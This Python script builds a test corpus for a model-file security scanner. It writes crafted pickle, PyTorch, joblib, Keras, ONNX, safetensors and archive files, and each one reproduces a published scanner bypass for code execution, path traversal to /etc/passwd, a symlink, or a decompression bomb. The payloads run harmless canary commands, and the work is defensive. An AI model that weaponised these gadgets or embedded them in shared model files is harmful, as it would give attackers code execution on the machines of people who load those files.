"""(Re)generate tests/assets/malicious/: one crafted artifact per published bypass.

Every payload is a real code-execution gadget whose effect is harmless
(``echo BASTION_CANARY``, ``pip --version``, a nonexistent hub repo ...).
Files are written next to this script together with MANIFEST.json
(file, technique, source, expected finding code).

    .venv/bin/python tests/assets/make_malicious_corpus.py
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

OUT = Path(__file__).resolve().parent / "malicious"
CMD = "echo BASTION_CANARY"
PY = "__import__('os').system('echo BASTION_CANARY')"


# ----------------------------------------------------------------------------
# a tiny pickle assembler (protocol 2-4 opcodes)
# ----------------------------------------------------------------------------
def s(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else \
        b"X" + struct.pack("<I", len(raw)) + raw


def g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def p2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def system_call() -> bytes:
    return call(g("os", "system"), s(CMD))


class _Reduce:
    def __init__(self, func: object, args: tuple[object, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def _os_system() -> object:
    import os

    return os.system


# ----------------------------------------------------------------------------
# artifacts
# ----------------------------------------------------------------------------
ENTRIES: list[dict[str, str]] = []


def add(name: str, technique: str, source: str, expected: str,
        data: bytes | Callable[[Path], None]) -> None:
    path = OUT / name
    if callable(data):
        data(path)
    else:
        path.write_bytes(data)
    ENTRIES.append({"file": name, "technique": technique, "source": source,
                    "expected_finding": expected})


def zip_bytes(members: dict[str, bytes], *, stored: bool = True) -> bytes:
    buf = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in members.items():
            # fixed timestamp: regenerating the corpus gives identical bytes
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data,
                       compress_type=method)
    return buf.getvalue()


def torch_zip(payload_pickle: bytes) -> bytes:
    return zip_bytes({"archive/data.pkl": payload_pickle, "archive/version": b"3\n",
                      "archive/byteorder": b"little"})


def patch_all(data: bytes, old: bytes, new: bytes) -> bytes:
    assert old in data
    return data.replace(old, new)


def build_pickles() -> None:
    gh = "https://github.com/mmaitre314/picklescan/security/advisories/"
    add("os_system_reduce.pkl", "plain GLOBAL os.system + REDUCE (baseline)",
        "https://github.com/trailofbits/fickling#readme", "disallowed_global", p2(system_call()))
    # memo-indirected STACK_GLOBAL: the strings come from the memo, and a decoy
    # string sits on top of the memo when STACK_GLOBAL runs
    body = (s("os") + b"\x94" + b"0" + s("system") + b"\x94" + b"0" + s("builtins") + s("len")
            + b"\x94" + b"0" + b"0" + b"h\x00" + b"h\x01" + b"\x93" + s(CMD) + b"\x85R")
    add("stack_global_memo_indirection.pkl", "STACK_GLOBAL with strings fetched from the memo "
        "(BINGET) after decoy strings", "https://github.com/mmaitre314/picklescan/issues/22",
        "disallowed_global", p4(body))
    add("operator_attrgetter_methodcaller.pkl", "_operator.methodcaller applied to os "
        "reached as shutil.os (no os.system global)", gh + "GHSA-955r-x9j8-7rhh",
        "disallowed_global",
        p2(call(call(g("_operator", "methodcaller"), s("system"), s(CMD)), g("shutil", "os"))))
    add("pkgutil_resolve_name.pkl", "pkgutil.resolve_name('os:system') returns the callable",
        gh + "GHSA-vvpj-8cmc-gx39", "disallowed_global",
        p2(call(call(g("pkgutil", "resolve_name"), s("os:system")), s(CMD))))
    add("pydoc_locate.pkl", "pydoc.locate('os.system') resolves any dotted name",
        "https://github.com/mmaitre314/picklescan/issues/66", "disallowed_global",
        p2(call(call(g("pydoc", "locate"), s("os.system")), s(CMD))))
    add("importlib_import_module_getattr.pkl", "importlib.import_module + builtins.getattr "
        "chain builds os.system from strings", "https://github.com/protectai/modelscan/issues/331",
        "disallowed_global",
        p2(call(call(g("builtins", "getattr"), call(g("importlib", "import_module"), s("os")),
                     s("system")), s(CMD))))
    add("timeit_timeit.pkl", "timeit.timeit(stmt) executes a statement", gh +
        "GHSA-v7x6-rv5q-mhwc", "disallowed_global",
        p2(call(g("timeit", "timeit"), s(PY), s("pass"), g("time", "perf_counter"), b"K\x01")))
    add("cprofile_run.pkl", "cProfile.run(code) executes code (profiler/debugger family)",
        gh + "GHSA-46h3-79wf-xr6c", "disallowed_global", p2(call(g("cProfile", "run"), s(PY))))
    add("pip_main.pkl", "pip.main([...]) runs pip in-process (CVE-2025-1716)",
        gh + "GHSA-655q-fx9r-782v", "disallowed_global",
        p2(call(g("pip", "main"), b"]" + b"(" + s("--version") + b"e")))
    add("ensurepip_run_pip.pkl", "ensurepip._run_pip runs pip", gh + "GHSA-xp4f-hrf8-rxw7",
        "disallowed_global", p2(call(g("ensurepip", "_run_pip"), b"](" + s("--version") + b"e")))
    add("idlelib_calltip_get_entity.pkl", "idlelib.calltip.get_entity evals its argument",
        gh + "GHSA-r8g5-cgf2-4m4m", "disallowed_global",
        p2(call(g("idlelib.calltip", "get_entity"), s(PY))))
    add("asyncio_subprocess_transport_start.pkl", "asyncio.unix_events._UnixSubprocessTransport"
        "._start via a dotted name (subclass of an unlisted class, CVE-2025-10157)",
        "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-gx77-x2pv-48v7",
        "disallowed_global",
        p4(s("asyncio.unix_events") + s("_UnixSubprocessTransport._start") + b"\x93("
           + b"N" + s(CMD) + b"\x88NNNK\x00tR"))
    add("functools_partial_wrapper.pkl", "functools.partial(os.system, cmd)() hides the call "
        "behind a wrapper", "https://github.com/trailofbits/fickling/pull/210",
        "disallowed_global",
        p2(call(call(g("functools", "partial"), g("os", "system"), s(CMD)))))
    add("nested_pickle_loads.pkl", "pickle.loads of an embedded pickle (nested pickle)",
        gh + "GHSA-84r2-jw7c-4r5q", "disallowed_global",
        p2(call(g("pickle", "loads"), b"C" + bytes([len(p2(system_call()))]) + p2(system_call()))))
    add("torch_load_nested.pkl", "torch.load of another file from inside a pickle",
        gh + "GHSA-84r2-jw7c-4r5q", "disallowed_global",
        p2(call(g("torch.serialization", "load"), s("payload.pt"))))
    add("numpy_load_nested.pkl", "numpy.load(allow_pickle=True) of another file",
        "https://github.com/protectai/modelscan/pull/339", "disallowed_global",
        p4(s("numpy") + s("load") + b"\x93" + s("payload.npy") + b"\x85" + b"}"
           + s("allow_pickle") + b"\x88s" + b"\x92"))
    add("torch_hub_load.pkl", "torch.hub.load fetches and runs hubconf.py",
        "https://github.com/protectai/modelscan/pull/313", "disallowed_global",
        p2(call(g("torch.hub", "load"), s("bastion-canary/none"), s("model"))))
    add("protocol0_inst_opcode.pkl", "protocol-0 INST opcode (no GLOBAL/REDUCE at all)",
        "https://github.com/trailofbits/fickling/pull/108", "disallowed_global",
        b"(S'" + CMD.encode() + b"'\nios\nsystem\n.")
    add("obj_opcode_pty_spawn.pkl", "OBJ opcode calling pty.spawn",
        "https://github.com/trailofbits/fickling/pull/108", "disallowed_global",
        b"(cpty\nspawn\nS'true'\no.")
    add("ext_opcode_extension_registry.pkl", "EXT1 opcode resolves a global through the copyreg "
        "extension registry (no module name in the file)",
        "https://peps.python.org/pep-0307/#the-extension-registry", "extension_registry",
        p2(b"\x82\xf0" + s(CMD) + b"\x85R"))
    add("multiple_pickles_concatenated.pkl", "benign pickle followed by a second malicious "
        "pickle in the same file", gh + "GHSA-9gvj-pp9x-gcfr", "disallowed_global",
        pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + p2(system_call()))
    add("payload_then_broken_stream.pkl", "payload followed by an invalid opcode: pickle.load "
        "runs the payload, scanners that give up on the error report nothing",
        "https://github.com/protectai/modelscan/pull/313", "disallowed_global",
        b"\x80\x02" + system_call() + b"\xff\xfe garbage")
    add("dotted_name_traversal_numpy.pkl", "protocol-4 dotted name walks from an allowed "
        "module (numpy) to os.system", "https://github.com/protectai/modelscan/issues/330",
        "disallowed_global",
        p4(s("numpy") + s("testing._private.utils.os.system") + b"\x93" + s(CMD) + b"\x85R"))
    numpy_builtins = bytes.fromhex(
        "80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275"
        "696c74696e735f5f93949468017d7d8c0573686170656803738662680168018c046576616c8652")
    expr = "__import__(\"os\").system(\"echo BASTION_CANARY\")"
    body = numpy_builtins + s(expr) + b"\x85R."
    body = body[:2] + b"\x95" + struct.pack("<Q", len(body) - 11) + body[11:]
    add("numpy_allowlisted_builtins_injection.pkl", "BUILD injects numpy.__builtins__ into an "
        "allow-listed numpy function object, then eval (gadget as published for numpy 1.x; "
        "numpy 2 changed numpy.size)", "https://github.com/protectai/modelscan"
        "/issues/330", "disallowed_global", body)
    add("pickle_disguised_as_pytorch_bin.bin", "a raw pickle named .bin (extension routes it "
        "to the wrong scanner, CVE-2025-10155)", gh + "GHSA-gx77-x2pv-48v7",
        "disallowed_global", p2(system_call()))
    add("protocol0_pickle_named_readme.txt", "protocol-0 pickle disguised as a text file "
        "(non-standard extension, CVE-2025-1889)", gh + "GHSA-769v-p64c-89pr",
        "disallowed_global", b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.")


def build_numpy_joblib() -> None:
    import joblib

    def payload_after_array(path: Path) -> None:
        joblib.dump({"a_weights": np.arange(64, dtype=np.float64),
                     "z_payload": _Reduce(_os_system(), (CMD,))}, path)

    add("joblib_payload_after_numpy_array.joblib", "payload pickled after a NumpyArrayWrapper "
        "whose raw bytes stop other scanners", "https://github.com/Lab700xOrg/aisbom/pull/91",
        "disallowed_global", payload_after_array)

    def payload_between_arrays_gz(path: Path) -> None:
        joblib.dump([np.ones((8, 8)), _Reduce(_os_system(), (CMD,)), np.zeros(16, np.int32)],
                    path, compress=("gzip", 3))

    add("joblib_gzip_payload_between_arrays.joblib", "gzip-compressed joblib, payload between "
        "two arrays (recompression hides it)", "https://github.com/google/saferpickle/pull/41",
        "disallowed_global", payload_between_arrays_gz)

    def object_array_npy(path: Path) -> None:
        arr = np.empty(2, dtype=object)
        arr[0] = "ok"
        arr[1] = _Reduce(_os_system(), (CMD,))
        np.save(path, arr, allow_pickle=True)

    add("numpy_object_array.npy", ".npy with an object dtype: numpy.load(allow_pickle=True) "
        "unpickles it", "https://github.com/protectai/modelscan/pull/339", "disallowed_global",
        object_array_npy)


def build_torch() -> None:
    pk = p2(system_call())
    add("torch_zip_payload_in_data_pkl.pt", "malicious data.pkl in a PyTorch zip checkpoint",
        "https://github.com/protectai/modelscan/issues/263", "disallowed_global", torch_zip(pk))
    # UTF-8 flag bit (0x800) cleared in the central directory only: zipfile decodes the
    # two names differently (cp437 vs UTF-8) and refuses; PyTorch compares raw bytes
    data = zip_bytes({"modèle/data.pkl": pk, "modèle/version": b"3\n"})
    cd = data.index(b"PK\x01\x02")
    flags = struct.unpack_from("<H", data, cd + 8)[0]
    data = data[:cd + 8] + struct.pack("<H", flags & ~0x800) + data[cd + 10:]
    add("torch_zip_flag_bits.pt", "zip general-purpose flag bit (UTF-8) differs between "
        "local and central headers: zipfile raises, PyTorch loads",
        "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-w8jq-xcqf-f792",
        "disallowed_global", data)
    crc = torch_zip(pk)
    info = zipfile.ZipFile(io.BytesIO(crc)).getinfo("archive/data.pkl")
    good = struct.pack("<I", info.CRC)
    crc = crc.replace(good, struct.pack("<I", info.CRC ^ 0xFFFFFFFF))
    add("torch_zip_crc_corrupted.pt", "corrupted CRC makes zipfile raise, torch ignores it "
        "(CVE-2025-10156)", "https://github.com/mmaitre314/picklescan/security/advisories/"
        "GHSA-gx77-x2pv-48v7", "zip_crc_mismatch", crc)
    mism = torch_zip(pk)
    first = mism.index(b"archive/data.pkl")
    mism = mism[:first] + b"archive/data.pkX" + mism[first + 16:]
    add("torch_zip_local_name_mismatch.pt", "local-header file name differs from the central "
        "directory (CVE-2025-1944)", "https://github.com/mmaitre314/picklescan/security/"
        "advisories/GHSA-7q5r-7gvp-wc82", "zip_name_mismatch", mism)
    add("torch_zip_pickle_member_with_other_extension.pt", "extra pickle member with a "
        "non-.pkl name inside the checkpoint zip", "https://github.com/mmaitre314/picklescan/"
        "security/advisories/GHSA-769v-p64c-89pr", "disallowed_global",
        zip_bytes({"archive/data.pkl": pickle.dumps({}, protocol=2),
                   "archive/extra/weights.bin": pk, "archive/version": b"3\n"}))

    def legacy(path: Path) -> None:
        import torch

        buf = io.BytesIO()
        torch.save({"w": torch.zeros(4)}, buf, _use_new_zipfile_serialization=False)
        raw = buf.getvalue()
        # legacy = 5 pickles + raw storages; splice a gadget into the sys_info pickle
        marker = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
        assert raw.startswith(marker)
        path.write_bytes(marker + p2(system_call()) + raw[len(marker):])

    add("torch_legacy_format_extra_pickle.pt", "legacy (non-zip) torch format: an extra "
        "pickle spliced among the header pickles", "https://github.com/pytorch/pytorch/blob/"
        "main/torch/serialization.py (_legacy_load)", "disallowed_global", legacy)

    def torchscript(path: Path) -> None:
        import torch

        class M(torch.nn.Module):
            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return x + 1

        torch.jit.save(torch.jit.script(M()), str(path))

    record = p2(b"(K\x01" + s("cpu") + call(g("os", "system"), s(CMD)) + b"t")
    add("torch_legacy_tar_payload_in_storage_record.pt", "legacy tar checkpoint: gadget in "
        "the pickled record of the 'storages' member (raw storage bytes follow it)",
        "https://github.com/pytorch/pytorch/blob/main/torch/serialization.py (legacy_load)",
        "disallowed_global", legacy_torch_tar(record))
    add("torch_jit_torchscript_archive.pt", "TorchScript archive: code/ is compiled and run by "
        "torch.jit.load", "https://github.com/protectai/modelscan/pull/313",
        "torchscript_archive", torchscript)


def legacy_torch_tar(storage_record: bytes) -> bytes:
    """A torch<0.4 tar checkpoint whose storage record pickle is *storage_record*."""
    import torch

    def dumps(obj: object) -> bytes:
        return pickle.dumps(obj, protocol=2)

    storages = (dumps(1) + storage_record + struct.pack("<q", 4) + struct.pack("<4f", 1, 2, 3, 4)
                + dumps([]))
    tensors = (dumps(1) + dumps((2, 1, torch.FloatTensor)) + struct.pack("<ii", 1, 0)
               + struct.pack("<qqq", 4, 1, 0))
    members = {"sys_info": dumps({"protocol_version": 1001, "little_endian": True}),
               "pickle": b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01K\x02Qs.",
               "storages": storages, "tensors": tensors}
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def build_archives() -> None:
    pk = p2(system_call())
    add("zip_path_traversal_member.zip", "zip member named ../../ (zip slip)",
        "https://github.com/protectai/modelscan/issues/263", "path_traversal",
        zip_bytes({"../../model/evil.pkl": pk}))
    add("zip_bomb_high_ratio.zip", "highly compressed member (zip bomb)",
        "https://github.com/promptfoo/modelaudit/pull/1605", "zip_bomb",
        zip_bytes({"weights.bin": b"\x00" * (40 * 1024 * 1024)}, stored=False))

    def tar_links(path: Path) -> None:
        with tarfile.open(path, "w") as tar:
            info = tarfile.TarInfo("model/weights.pkl")
            info.type = tarfile.SYMTYPE
            info.linkname = "/etc/passwd"
            tar.addfile(info)
            info = tarfile.TarInfo("model/payload.pkl")
            info.size = len(pk)
            tar.addfile(info, io.BytesIO(pk))

    add("tar_symlink_member.tar", "tar with a symlink member and a pickle payload (legacy "
        "torch tar / dangling archives)", "https://github.com/promptfoo/modelaudit/pull/1605",
        "archive_symlink", tar_links)


def _tar(members: dict[str, tuple[bytes, bytes]]) -> bytes:
    """An uncompressed tar (fixed mtime: reproducible); values are (type, data)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, (kind, data) in members.items():
            info = tarfile.TarInfo(name)
            info.type = kind
            info.size = len(data) if kind == tarfile.REGTYPE else 0
            tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
    return buf.getvalue()


def build_issue8() -> None:
    """Issue 8: tarballs read as pickles, storages trusted by name."""
    pk = p2(system_call())
    reg = tarfile.REGTYPE
    add("tar_gz_nested_pickle_payload.tar.gz", "gzip'd tarball holding a pickle payload: a "
        "scanner that reads every gzip stream as compressed joblib sees a malformed pickle and "
        "never inspects the members", "https://docs.python.org/3/library/tarfile.html",
        "disallowed_global",
        gzip.compress(_tar({"model/README.md": (reg, b"model\n"), "model/model.pkl": (reg, pk)}),
                      mtime=0))
    add("tar_xz_device_member.tar.xz", "xz'd tarball with a character-device member (extraction "
        "creates a device node)", "https://docs.python.org/3/library/tarfile.html"
        "#tarfile-extraction-filter", "archive_special_file",
        lzma.compress(_tar({"model/dev": (tarfile.CHRTYPE, b""), "model/w.bin": (reg, b"1")})))
    add("tar_gz_decompression_bomb.tar.gz", "gzip'd tarball of zeros with a huge "
        "decompression ratio", "https://github.com/promptfoo/modelaudit/pull/1605", "tar_bomb",
        gzip.compress(_tar({"weights.bin": (reg, b"\x00" * (16 * 1024 * 1024))}), mtime=0))
    add("torch_zip_protocol0_pickle_as_storage.pt", "PyTorch zip whose data/0 'raw storage' "
        "member is a protocol-0 pickle of os.system (trusted by its name, never scanned)",
        "https://github.com/protectai/modelscan/issues/263", "disallowed_global",
        zip_bytes({"archive/data.pkl": p2(b"]q\x00"), "archive/version": b"3\n",
                   "archive/data/0": b"cos\nsystem\n(S'echo pwned'\ntR."}))


def build_formats() -> None:
    code = base64.b64encode(marshal.dumps(compile(PY, "<lambda>", "eval"))).decode()
    lam = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
           "config": {"name": "lambda", "function": {"class_name": "__lambda__",
                      "config": {"code": code, "defaults": None, "closure": None}}}}
    seq = {"module": "keras", "class_name": "Sequential", "registered_name": None,
           "config": {"name": "sequential", "layers": [lam]}}
    meta = json.dumps({"keras_version": "3.5.0"}).encode()
    add("keras_lambda_layer.keras", "Keras v3 archive with a Lambda layer (marshalled "
        "bytecode)", "https://github.com/protectai/modelscan/issues/343", "keras_lambda",
        zip_bytes({"config.json": json.dumps(seq).encode(), "metadata.json": meta}))
    foreign = {"module": "keras", "class_name": "Sequential", "registered_name": None,
               "config": {"name": "s", "layers": [{"module": "os", "class_name": "function",
                                                   "config": "system",
                                                   "registered_name": "function"}]}}
    add("keras_foreign_module_function.keras", "Keras config naming a non-Keras module "
        "(os.system) that the loader imports (CVE-2025-1550)",
        "https://github.com/protectai/modelscan/issues/358", "keras_foreign_module",
        zip_bytes({"config.json": json.dumps(foreign).encode(), "metadata.json": meta}))

    def h5_lambda(path: Path) -> None:
        import h5py

        cfg = {"class_name": "Sequential", "config": {"layers": [
            {"class_name": "Lambda", "config": {"function": [code, None, None],
                                                "function_type": "lambda"}}]}}
        with h5py.File(path, "w") as h5:
            h5.attrs["model_config"] = json.dumps(cfg)

    add("keras_h5_lambda_layer.h5", "legacy Keras HDF5 model_config with a Lambda layer",
        "https://github.com/protectai/modelscan/issues/343", "keras_lambda", h5_lambda)
    import onnx
    from onnx import TensorProto, helper

    def onnx_model(nodes: list[onnx.NodeProto], inits: list[onnx.TensorProto],
                   opsets: list[onnx.OperatorSetIdProto]) -> bytes:
        graph = helper.make_graph(nodes, "g", [helper.make_tensor_value_info(
            "x", TensorProto.FLOAT, [1])], [helper.make_tensor_value_info(
                "y", TensorProto.FLOAT, [1])], inits)
        return helper.make_model(graph, opset_imports=opsets).SerializeToString()

    w = helper.make_tensor("w", TensorProto.FLOAT, [1], [1.0])
    w.ClearField("float_data")
    w.data_location = TensorProto.EXTERNAL
    for k, v in (("location", "../../../../etc/passwd"), ("offset", "0"), ("length", "4")):
        w.external_data.add(key=k, value=v)
    add("onnx_external_data_traversal.onnx", "external-data location leaves the model folder "
        "(CVE-2024-27318)", "https://github.com/onnx/onnx/security/advisories/"
        "GHSA-h2g7-3c5x-9wpp", "onnx_external_data",
        onnx_model([helper.make_node("Add", ["x", "w"], ["y"])], [w],
                   [helper.make_opsetid("", 17)]))
    add("onnx_custom_op_domain.onnx", "node in a custom op domain (native custom-op library)",
        "https://github.com/protectai/modelscan/issues/263", "onnx_custom_op",
        onnx_model([helper.make_node("Exec", ["x"], ["y"], domain="evil.custom")], [],
                   [helper.make_opsetid("", 17), helper.make_opsetid("evil.custom", 1)]))
    header = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    add("safetensors_huge_header_length.safetensors", "8-byte header length of 2^63 (huge "
        "allocation / overflow)", "https://github.com/huggingface/safetensors/security",
        "safetensors_header_size", struct.pack("<Q", 2**63) + header + b"\x00" * 4)
    bad = json.dumps({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                      "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}).encode()
    add("safetensors_overlapping_offsets.safetensors", "tensors whose byte ranges overlap "
        "(parser differential)", "https://github.com/huggingface/safetensors/security",
        "safetensors_overlap", struct.pack("<Q", len(bad)) + bad + b"\x00" * 12)


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    for old in OUT.iterdir():
        old.unlink()
    build_pickles()
    build_numpy_joblib()
    build_torch()
    build_archives()
    build_issue8()
    build_formats()
    (OUT / "MANIFEST.json").write_text(json.dumps(ENTRIES, indent=2) + "\n")
    total = sum(p.stat().st_size for p in OUT.iterdir())
    print(f"{len(ENTRIES)} artifacts, {total} bytes in {OUT}")


if __name__ == "__main__":
    main()
